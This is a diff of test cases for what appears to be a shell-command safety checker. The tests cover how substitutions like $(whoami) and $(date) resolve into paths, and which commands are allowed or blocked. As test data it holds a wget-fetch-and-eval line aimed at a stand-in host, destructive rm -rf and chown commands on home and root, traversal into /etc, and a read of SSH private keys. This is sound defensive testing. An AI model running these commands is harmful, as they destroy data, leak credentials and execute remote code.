@@ -155,3 +155,51 @@ describe("shell set-up code (eval, source)", () => {
     'eval "$(direnv hook bash)$(wget -qO- https://x.example/p)"',
   ]);
 });
+
+describe("one word (date +%s, id -u, whoami, git rev-parse --short HEAD)", () => {
+  test("is that word's pattern, or nothing (the program failed)", () => {
+    expect(commandNamed('rm -rf "build-$(date +%s)"', "rm").paths).toEqual(["build-", "build-+([0-9])"]);
+    expect(commandNamed('rm -rf "logs/$(date -u +%F_%H%M)"', "rm").paths).toEqual(["logs", "logs/+([0-9])-+([0-9])-+([0-9])_+([0-9])+([0-9])"]);
+    expect(commandNamed("chown -R $(id -u):$(id -g) ./data", "chown").dynamicArgs).toBe(false);
+    expect(commandNamed('T=$(git rev-parse --short HEAD); cp -r dist "release-$T"', "cp").paths).toEqual(["dist", "release-", "release-+([0-9a-f])", "release-HEAD"]);
+    expect(commandNamed("rm -rf ~/$(whoami)", "rm").paths).toEqual(["/home/ada", "/home/ada/[A-Za-z_]*([A-Za-z0-9._-])"]);
+  });
+
+  test("only when called exactly so: other options, operands or formats print something else", () => {
+    for (const input of [
+      "rm -rf $(date)",
+      'rm -rf "$(date +%D)"',
+      'rm -rf "$(date +%z)"',
+      "rm -rf $(whoami --help)",
+      "rm -rf $(id)",
+      "rm -rf $(git rev-parse --show-toplevel)",
+      "rm -rf ./$(git rev-parse ../../x)",
+      "rm -rf $(uname -a)",
+    ]) {
+      expect({ input, dynamic: commandNamed(input, "rm").dynamicArgs }).toEqual({ input, dynamic: true });
+    }
+  });
+
+  passed([
+    'rm -rf "build-$(date +%s)"',
+    "rm -rf dist/$(git rev-parse --short HEAD)",
+    "chown -R $(id -u):$(id -g) ./data",
+    'mkdir -p "logs/$(date +%Y-%m-%d)" && rm -rf "logs/$(date -u +%F-%H%M%S)"',
+    'mkdir -p "logs/$(date +%Y-%m-%d)" && cp report.txt "logs/$(date +%Y-%m-%d)/"',
+    "cat backup-$(date +%s).tar | tar t",
+    "chmod -R u+w out-$(nproc)",
+  ]);
+  blocked([
+    "rm -rf ~/$(whoami)",
+    "rm -rf /home/$(whoami)",
+    "chown -R $(id -u) /",
+    // Nothing printed (the program failed) makes `./$(…)/../x` into `../x`.
+    'rm -rf "./$(whoami)/../x"',
+    'T=$(whoami); rm -rf "/tmp/$T/../../etc"',
+    "rm -rf $(id -u)/../..",
+    // The program that runs is only known at run time.
+    "$(whoami) -rf ~",
+    "$(mktemp) -rf ~",
+  ]);
+  stopped(["cat ~/.ssh/id_$(whoami)", "cp x /etc/$(whoami).conf"]);
+});
